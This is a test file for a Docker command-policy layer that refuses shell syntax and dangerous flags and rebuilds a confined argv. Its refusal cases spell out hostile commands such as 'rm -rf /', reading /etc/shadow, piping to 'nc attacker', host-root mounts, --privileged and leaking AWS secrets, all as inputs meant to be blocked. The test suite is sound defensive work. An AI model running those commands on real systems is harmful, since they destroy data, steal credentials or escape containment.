/**
 * mcp2's command policy without Docker: a command line is split like a shell would (refusing shell
 * syntax), then planned against the allow-lists into the exact argv that would run, or refused.
 */
import { describe, expect, it } from "vitest";
import { splitCommandLine } from "../../local-backends/mcp2/command-line.ts";
import { DEFAULT_CONFIG, type Mcp2Config } from "../../local-backends/mcp2/config.ts";
import { SUBCOMMANDS } from "../../local-backends/mcp2/flags.ts";
import { engineName, namePrefix } from "../../local-backends/mcp2/names.ts";
import {
  admitImage,
  FOREGROUND_REAPER_GRACE_SECONDS,
  type PlanResult,
  planCommand,
} from "../../local-backends/mcp2/plan.ts";

const AGENT = "agent_name2";
const NOW = 1_800_000_000;
const RUN_ID = "run-1";

/** Who calls and with which configuration; `agent: undefined` is a request naming no agent. */
interface Caller {
  agent?: string | undefined;
  config?: Mcp2Config;
}

function plan(line: string, caller: Caller = {}): PlanResult {
  const split = splitCommandLine(line);
  if (!split.ok) return split;
  const agent = "agent" in caller ? caller.agent : AGENT;
  const config = caller.config ?? DEFAULT_CONFIG;
  return planCommand(split.argv, { config, agent, runId: RUN_ID, nowSeconds: NOW });
}

function refusal(line: string, caller: Caller = {}): string {
  const result = plan(line, caller);
  if (result.ok)
    throw new Error(`expected "${line}" to be refused, planned ${JSON.stringify(result.plan)}`);
  return result.reason;
}

function argvOf(line: string, config?: Mcp2Config): string[] {
  const result = plan(line, { config });
  if (!result.ok) throw new Error(`expected "${line}" to be allowed: ${result.reason}`);
  if (result.plan.kind === "owned") throw new Error("owned plans have no argv yet");
  return result.plan.argv;
}

/** The flags mcp2 adds to every `run` with the default configuration. */
function enforced(lifetime: number): string[] {
  return [
    "--pull=never",
    "--network=none",
    "--memory=256m",
    "--memory-swap=256m",
    "--cpus=1",
    "--pids-limit=64",
    "--security-opt=no-new-privileges",
    "--log-opt=max-size=1m",
    "--label=mcpcp.managed=true",
    `--label=mcpcp.agent=${AGENT}`,
    `--label=mcpcp.run=${RUN_ID}`,
    `--label=mcpcp.deadline=${NOW + lifetime}`,
  ];
}

describe("abuse: refused with a reason, nothing planned", () => {
  it.each<[string, string, RegExp]>([
    ["a command list", "run --rm mcpcp/busybox echo hi; rm -rf /", /shell operator ";"/],
    ["command substitution", "run --rm mcpcp/busybox echo $(cat /etc/shadow)", /substitution/],
    ["backticks", "run --rm mcpcp/busybox echo `id`", /substitution/],
    ["a variable", "run --rm mcpcp/busybox echo $HOME", /substitution/],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell syntax under test
    ["a quoted variable", 'run --rm mcpcp/busybox echo "${HOME}"', /substitution/],
    ["a pipe", "ps | nc attacker 80", /shell operator "\|"/],
    ["&&", "ps && rm -f web", /shell operator "&&"/],
    ["||", "ps || true", /shell operator "\|\|"/],
    ["a background job", "run -d mcpcp/busybox sleep 1 & ps", /shell operator "&"/],
    ["output redirection", "version > /etc/passwd", /shell operator ">"/],
    ["input redirection", "run -i mcpcp/busybox sh < /etc/shadow", /shell operator "<"/],
    ["fd redirection", "version 2>&1", /shell operator ">&"/],
    ["process substitution", "run mcpcp/busybox cat <(id)", /shell operator "<\("/],
    ["a subshell", "(ps)", /shell operator "\("/],
    ["a glob", "rm -f *", /glob/],
    ["a bracket glob", "rm -f web[12]", /glob/],
    ["a comment", "ps # and more", /comment/],
    ["a newline", "ps\nrm -f web", /newline/],
    ["a control character", "ps\u0000", /control character/],
    [
      "--privileged",
      "run --privileged mcpcp/busybox",
      /--privileged is not allowed: .*control of the host/,
    ],
    ["--privileged=true", "run --privileged=true mcpcp/busybox", /--privileged is not allowed/],
    ["exec --privileged", "exec --privileged web sh", /--privileged is not allowed/],
    ["a host bind mount", "run -v /:/host mcpcp/busybox", /-v is not allowed: no volumes/],
    ["a grouped host mount", "run -dv /:/host mcpcp/busybox", /-v is not allowed/],
    ["--volume=", "run --volume=/etc:/etc mcpcp/busybox", /--volume is not allowed/],
    ["a named volume", "run -v shared:/data mcpcp/busybox", /-v is not allowed/],
    [
      "--mount type=bind",
      "run --mount type=bind,source=/,target=/host mcpcp/busybox",
      /--mount is not allowed/,
    ],
    ["--volumes-from", "run --volumes-from other mcpcp/busybox", /--volumes-from is not allowed/],
    ["--network host", "run --network host mcpcp/busybox", /--network must be none/],
    ["--net=host", "run --net=host mcpcp/busybox", /--net must be none/],
    [
      "another container's network",
      "run --network container:web mcpcp/busybox",
      /--network must be none/,
    ],
    [
      "the bridge when none is configured",
      "run --network bridge mcpcp/busybox",
      /--network must be none/,
    ],
    [
      "--pid host",
      "run --pid host mcpcp/busybox",
      /--pid is not allowed: containers keep their own namespaces/,
    ],
    ["--pid=host", "run --pid=host mcpcp/busybox", /--pid is not allowed/],
    ["--ipc host", "run --ipc host mcpcp/busybox", /--ipc is not allowed/],
    ["--uts host", "run --uts=host mcpcp/busybox", /--uts is not allowed/],
    ["--userns host", "run --userns=host mcpcp/busybox", /--userns is not allowed/],
    ["--cap-add SYS_ADMIN", "run --cap-add SYS_ADMIN mcpcp/busybox", /--cap-add is not allowed/],
    ["--device", "run --device /dev/sda mcpcp/busybox", /--device is not allowed: no host devices/],
    [
      "--security-opt",
      "run --security-opt seccomp=unconfined mcpcp/busybox",
      /--security-opt is not allowed/,
    ],
    ["--cgroup-parent", "run --cgroup-parent / mcpcp/busybox", /--cgroup-parent is not allowed/],
    ["published ports when not configured", "run -p 8080:80 mcpcp/busybox", /-p is off/],
    ["-P", "run -P mcpcp/busybox", /-P is not allowed/],
    ["raising memory", "run -m 100g mcpcp/busybox", /-m is not allowed: memory: mcp2 sets/],
    ["lifting the pids limit", "run --pids-limit=-1 mcpcp/busybox", /--pids-limit is not allowed/],
    ["a restart policy", "run -d --restart always mcpcp/busybox", /--restart is not allowed/],
    ["another runtime", "run --runtime runc mcpcp/busybox", /--runtime is not allowed/],
    [
      "a host env file",
      "run --env-file /etc/environment mcpcp/busybox",
      /--env-file is not allowed/,
    ],
    [
      "copying mcp2's env",
      "run -e AWS_SECRET_ACCESS_KEY mcpcp/busybox env",
      /-e must be KEY=VALUE/,
    ],
    [
      "forging the owner label",
      "run -l mcpcp.agent=agent_name1 mcpcp/busybox",
      /may not set mcpcp\.\* labels/,
    ],
    [
      "forging the deadline label",
      "run --label=MCPCP.deadline=9999999999 -d mcpcp/busybox",
      /may not set mcpcp/,
    ],
    ["turning --rm off", "run --rm=false mcpcp/busybox", /--rm takes no value/],
    ["a log driver", "run --log-driver syslog mcpcp/busybox", /--log-driver is not allowed/],
    [
      "an unknown flag",
      "run --oom-kill-disable mcpcp/busybox",
      /--oom-kill-disable is not allowed/,
    ],
    [
      "an unlisted flag",
      "run --foo mcpcp/busybox",
      /--foo is not an allowed flag for docker run\. Allowed flags for docker run: -d\/--detach/,
    ],
    [
      "an image not on the list",
      "run --rm alpine echo hi",
      /image "alpine" is not allowed\. Allowed images: mcpcp\/busybox \(tags this engine already has\)$/,
    ],
    ["an image by ID", "run --rm faff31161cf8 echo hi", /is not allowed/],
    ["a look-alike image", "run --rm mcpcp/busybox-evil echo hi", /is not allowed/],
    ["a terminal", "run -it mcpcp/busybox sh", /-t is not allowed: no terminal/],
    [
      "system prune",
      "system prune -af",
      /"docker system" is not allowed\. Allowed subcommands: version, info, ps, images, run, logs, inspect, stop, rm, exec\./,
    ],
    ["docker build", "build -t x .", /"docker build" is not allowed/],
    ["docker cp", "cp web:/etc/shadow /tmp", /"docker cp" is not allowed/],
    ["docker pull", "pull alpine", /"docker pull" is not allowed/],
    ["a management command", "container prune", /"docker container" is not allowed/],
    ["a prototype key as a subcommand", "constructor", /"docker constructor" is not allowed/],
    ["another engine", "-H tcp://10.0.0.1:2375 ps", /global docker options such as -H/],
    ["another CLI config", "--config /tmp/evil ps", /global docker options/],
    ["another context", "--context prod ps", /global docker options/],
    ["following logs forever", "logs -f web", /-f is not allowed: it never ends/],
    ["inspecting images", "inspect --type image mcpcp/busybox", /--type must be container/],
    [
      "a foreign ps filter key",
      "ps --filter before=hostcontainer",
      /must be KEY=VALUE with KEY one of/,
    ],
    ["an image reference filter", "images --filter reference=*", /glob/],
    [
      "an images reference filter, quoted",
      "images --filter 'reference=secret/*'",
      /KEY one of dangling, label/,
    ],
    ["a positional for images", "images secret/app", /takes no arguments/],
    [
      "a stop longer than the time limit",
      "stop -t 600 web",
      /-t must be a whole number from 0 to 6/,
    ],
    ["a container reference with a path", "logs ../../etc", /is not a container name or ID/],
    ["a flag where the container goes", "rm -f -- -rf", /is not a container name or ID/],
    ["an empty command", "   ", /empty/],
    ["only docker", "docker", /subcommand is missing/],
  ])("%s: %s", (_what, line, reason) => {
    expect(refusal(line)).toMatch(reason);
  });

  it.each([
    "run --rm mcpcp/busybox echo hi",
    "ps",
    "logs web",
    "stop web",
    "rm web",
    "exec web ls",
    "inspect web",
  ])("refuses %s when no agent is named (ownership needs one)", (line) => {
    expect(refusal(line, { agent: undefined })).toMatch(/does not say which agent is calling/);
  });

  it("refuses an agent id that is not plain text", () => {
    expect(refusal("ps", { agent: "agent,label=x" })).toMatch(/which agent is calling/);
    expect(refusal("ps", { agent: "" })).toMatch(/which agent is calling/);
  });

  it("refuses commands longer than 8 KiB", () => {
    expect(refusal(`run --rm mcpcp/busybox echo ${"x".repeat(9000)}`)).toMatch(/longer than 8192/);
  });
});

describe("allowed: the argv that runs is rebuilt from what was checked", () => {
  it("runs version and images without a caller (they touch no container)", () => {
    expect(plan("docker version", { agent: undefined })).toEqual({
      ok: true,
      plan: { kind: "view", view: "version", argv: ["version"] },
    });
    expect(argvOf("images -q")).toEqual(["images", "--quiet", "--filter=reference=mcpcp/busybox"]);
  });

  it("answers info and version from mcp2's own view, checking --format first", () => {
    expect(plan("info --format '{{.ServerVersion}}'")).toEqual({
      ok: true,
      plan: {
        kind: "view",
        view: "info",
        argv: ["info", "--format={{.ServerVersion}}"],
        format: { kind: "actions", parts: [{ path: ["ServerVersion"], json: false }] },
      },
    });
    expect(refusal("info", { agent: undefined })).toMatch(/does not say which agent is calling/);
    expect(refusal("info -f '{{.KernelVersion}}'")).toBe(
      "--format: docker info here has no field .KernelVersion (the fields of .: Containers, " +
        "ContainersRunning, ContainersPaused, ContainersStopped, Images, ServerVersion). mcp2 " +
        "answers docker info itself, from what concerns you, and reads only text, {{.Field}}, " +
        "{{json .Field}}, {{.}} and json in its --format",
    );
    expect(refusal("version -f '{{.Server.KernelVersion}}'")).toMatch(
      /^--format: docker version here has no field \.Server\.KernelVersion \(the fields of \.Server: Version, APIVersion, MinAPIVersion, Os, Arch\)/,
    );
    expect(refusal("version -f '{{.Server.Version.Major}}'")).toMatch(
      /no field \.Server\.Version\.Major \(the fields of \.Server\.Version: none\)/,
    );
    for (const template of [
      "{{range .Plugins}}{{end}}",
      '{{index . "Name"}}',
      "{{.ServerVersion | printf}}",
      "{{printf .ServerVersion}}",
      "{{- .ServerVersion}}",
      "{{.ServerVersion",
      "{{/* a comment */}}",
    ]) {
      expect(refusal(`info --format '${template}'`)).toMatch(/^--format: /);
    }
  });

  it("reads -f as --filter for ps and images, and as --format elsewhere", () => {
    expect(argvOf("ps -a -f status=exited")).toEqual([
      "ps",
      "--all",
      "--filter=status=exited",
      "--filter=label=mcpcp.managed=true",
      `--filter=label=mcpcp.agent=${AGENT}`,
    ]);
    expect(argvOf("images -f dangling=true")).toEqual([
      "images",
      "--filter=dangling=true",
      "--filter=reference=mcpcp/busybox",
    ]);
    expect(argvOf("version -f '{{.Client.Version}}'")).toEqual([
      "version",
      "--format={{.Client.Version}}",
    ]);
    expect(plan("inspect -f '{{.Id}}' web")).toMatchObject({
      plan: { head: ["inspect", "--format={{.Id}}", "--type=container"] },
    });
  });

  it("filters ps by name within the caller's namespace", () => {
    expect(argvOf("ps -f name=web --filter name=^db")).toEqual([
      "ps",
      `--filter=name=^/${namePrefix(AGENT)}.*web`,
      `--filter=name=^/${namePrefix(AGENT)}db`,
      "--filter=label=mcpcp.managed=true",
      `--filter=label=mcpcp.agent=${AGENT}`,
    ]);
    expect(refusal("ps -f 'name=web|db'")).toMatch(/name= must be a name or part of one/);
    expect(refusal("ps -f 'name=.*'")).toMatch(/name= must be a name or part of one/);
  });

  it("lists only the caller's containers", () => {
    expect(argvOf("ps -a --format '{{.Names}}'")).toEqual([
      "ps",
      "--all",
      "--format={{.Names}}",
      "--filter=label=mcpcp.managed=true",
      `--filter=label=mcpcp.agent=${AGENT}`,
    ]);
  });

  it("confines a foreground run: --rm, limits, no network, owner and deadline labels", () => {
    // The reaper's deadline trails mcp2's own timer, so the two never race.
    const reapAfter = DEFAULT_CONFIG.timeoutSeconds + FOREGROUND_REAPER_GRACE_SECONDS;
    expect(argvOf("docker run --rm mcpcp/busybox echo hi")).toEqual([
      "run",
      "--rm",
      ...enforced(reapAfter),
      "mcpcp/busybox",
      "echo",
      "hi",
    ]);
    // --rm is enforced even when not asked for.
    expect(argvOf("run mcpcp/busybox:latest true")).toEqual([
      "run",
      "--rm",
      ...enforced(reapAfter),
      "mcpcp/busybox:latest",
      "true",
    ]);
  });

  it("keeps a detached container (for logs) until the detached time limit", () => {
    const result = plan("run -d --name web mcpcp/busybox sleep 30");
    expect(result).toEqual({
      ok: true,
      plan: {
        kind: "run",
        detached: true,
        runId: RUN_ID,
        localImage: "mcpcp/busybox",
        argv: [
          "run",
          "--detach",
          // The engine's name is in the caller's namespace; mcp2 shows it back as "web".
          `--name=${engineName(AGENT, "web")}`,
          ...enforced(DEFAULT_CONFIG.detachedTimeoutSeconds),
          "mcpcp/busybox",
          "sleep",
          "30",
        ],
      },
    });
  });

  it("normalises short groups, attached values and aliases to one --long=value per flag", () => {
    expect(
      argvOf("run -di -e A=1 -eB=2 -e=C=3 --env D=x=y --net none -w /tmp mcpcp/busybox env"),
    ).toEqual([
      "run",
      "--detach",
      "--interactive",
      "--env=A=1",
      "--env=B=2",
      "--env=C=3",
      "--env=D=x=y",
      "--workdir=/tmp",
      ...enforced(DEFAULT_CONFIG.detachedTimeoutSeconds),
      "mcpcp/busybox",
      "env",
    ]);
  });

  it("passes everything after the image to the container, never to docker", () => {
    expect(
      argvOf('run mcpcp/busybox sh -c "echo --privileged -v /:/host; echo a|b"').slice(-4),
    ).toEqual(["mcpcp/busybox", "sh", "-c", "echo --privileged -v /:/host; echo a|b"]);
  });

  it("shows help without running anything else", () => {
    expect(argvOf("run --help")).toEqual(["run", "--help"]);
  });

  it("acts on containers by reference, resolved to the caller's own later", () => {
    expect(plan("logs --tail 5 web")).toEqual({
      ok: true,
      plan: { kind: "owned", head: ["logs", "--tail=5"], refs: ["web"], tail: [] },
    });
    // Flags may follow the container, as the docker CLI allows for these subcommands.
    expect(plan("logs web -n=3 -t")).toEqual({
      ok: true,
      plan: { kind: "owned", head: ["logs", "--tail=3", "--timestamps"], refs: ["web"], tail: [] },
    });
    expect(plan("rm -f web 3f2a")).toEqual({
      ok: true,
      plan: { kind: "owned", head: ["rm", "--force"], refs: ["web", "3f2a"], tail: [] },
    });
    expect(plan("inspect -f '{{.State.Status}}' web")).toEqual({
      ok: true,
      plan: {
        kind: "owned",
        head: ["inspect", "--format={{.State.Status}}", "--type=container"],
        refs: ["web"],
        tail: [],
      },
    });
    expect(plan("exec -e A=1 web sh -c 'ls -la /'")).toEqual({
      ok: true,
      plan: {
        kind: "owned",
        head: ["exec", "--env=A=1"],
        refs: ["web"],
        tail: ["sh", "-c", "ls -la /"],
      },
    });
  });

  it("bounds docker stop by the command's time limit", () => {
    expect(plan("stop web")).toMatchObject({ plan: { head: ["stop", "-t=6"] } });
    expect(plan("stop --time 2 web")).toMatchObject({ plan: { head: ["stop", "-t=2"] } });
    expect(plan("stop --timeout=0 web")).toMatchObject({ plan: { head: ["stop", "-t=0"] } });
  });

  it("allows the configured network and loopback ports when publishing is on", () => {
    const config = { ...DEFAULT_CONFIG, network: "sandbox", allowPublish: true };
    const argv = argvOf(
      "run -d --network sandbox -p 127.0.0.1:8080:80 mcpcp/busybox httpd -f",
      config,
    );
    expect(argv).toContain("--network=sandbox");
    expect(argv).toContain("--publish=127.0.0.1:8080:80");
    expect(argv.filter((arg) => arg.startsWith("--network"))).toHaveLength(1);
    expect(refusal("run -p 8080:80 mcpcp/busybox", { config })).toMatch(/loopback only/);
    expect(refusal("run -p 0.0.0.0:8080:80 mcpcp/busybox", { config })).toMatch(/loopback only/);
    expect(refusal("run -p 127.0.0.1:22:22 mcpcp/busybox", { config })).toMatch(
      /HOSTPORT 1024-65535/,
    );
  });
});

describe("admitImage: never anything a registry would have to supply", () => {
  const digest = `sha256:${"a".repeat(64)}`;
  const allowed = [
    "mcpcp/busybox",
    "registry.local:5000/tools/jq:1.7",
    `registry.local:5000/tools/yq@${digest}`,
  ];

  it("admits a tagless entry's tags only if the engine has them (asked before the run)", () => {
    expect(admitImage("mcpcp/busybox", allowed)).toBe("if-local");
    expect(admitImage("mcpcp/busybox:latest", allowed)).toBe("if-local");
    expect(admitImage("mcpcp/busybox:anything", allowed)).toBe("if-local");
  });

  it("admits a tagged entry at that tag only, a digest entry at that digest only", () => {
    expect(admitImage("registry.local:5000/tools/jq:1.7", allowed)).toBe("listed");
    expect(admitImage("registry.local:5000/tools/jq", allowed)).toBe("unlisted");
    expect(admitImage("registry.local:5000/tools/jq:latest", allowed)).toBe("unlisted");
    expect(admitImage(`registry.local:5000/tools/yq@${digest}`, allowed)).toBe("listed");
    expect(admitImage("registry.local:5000/tools/yq", allowed)).toBe("unlisted");
    expect(admitImage("registry.local:5000/tools/yq:latest", allowed)).toBe("unlisted");
  });

  it("refuses a digest no entry names, even under a tagless entry", () => {
    expect(admitImage(`mcpcp/busybox@${digest}`, allowed)).toBe("unlisted-digest");
    expect(admitImage(`mcpcp/busybox@sha256:${"b".repeat(64)}`, allowed)).toBe("unlisted-digest");
    expect(admitImage(`registry.local:5000/tools/yq@sha256:${"b".repeat(64)}`, allowed)).toBe(
      "unlisted-digest",
    );
    // Docker ignores the tag of `repo:tag@digest`; a listed digest spelled so is refused too.
    expect(admitImage(`registry.local:5000/tools/yq:1@${digest}`, allowed)).toBe("unlisted-digest");
  });

  it("refuses other repositories, look-alikes and malformed references", () => {
    expect(admitImage("docker.io/mcpcp/busybox", allowed)).toBe("unlisted");
    expect(admitImage("busybox", allowed)).toBe("unlisted");
    expect(admitImage("mcpcp/busybox-evil", allowed)).toBe("unlisted");
    expect(admitImage("mcpcp/busybox:", allowed)).toBe("unlisted");
    expect(admitImage("-mcpcp/busybox", allowed)).toBe("unlisted");
  });

  it("plans a run with --pull=never, and the tag the engine must already have", () => {
    const config = { ...DEFAULT_CONFIG, allowedImages: allowed };
    const tagless = plan("run --rm mcpcp/busybox:anything true", { config });
    expect(tagless).toMatchObject({ ok: true, plan: { localImage: "mcpcp/busybox:anything" } });
    expect(argvOf("run --rm mcpcp/busybox:anything true", config)).toContain("--pull=never");
    for (const image of [
      "registry.local:5000/tools/jq:1.7",
      `registry.local:5000/tools/yq@${digest}`,
    ]) {
      const listed = plan(`run -d ${image}`, { config });
      expect(listed.ok && listed.plan.kind === "run" && listed.plan.localImage).toBe(undefined);
      expect(argvOf(`run -d ${image}`, config)).toContain("--pull=never");
    }
  });

  it("says why a digest is refused, and what each entry admits", () => {
    expect(refusal(`run --rm mcpcp/busybox@${digest} true`)).toBe(
      `the image "mcpcp/busybox@${digest}" is not allowed: only digests the list names run. ` +
        "Allowed images: mcpcp/busybox (tags this engine already has)",
    );
  });
});

describe("flag tables", () => {
  it.each(Object.entries(SUBCOMMANDS))(
    "%s: no two flags share a spelling, and no flag is both allowed and refused",
    (_name, spec) => {
      const spellings = spec.flags.flatMap((f) => [
        f.long,
        ...(f.aliases ?? []),
        ...(f.short ? [f.short] : []),
      ]);
      expect(spellings.filter((s, i) => spellings.indexOf(s) !== i)).toEqual([]);
      expect(spellings.filter((s) => Object.hasOwn(spec.refused, s))).toEqual([]);
    },
  );
});
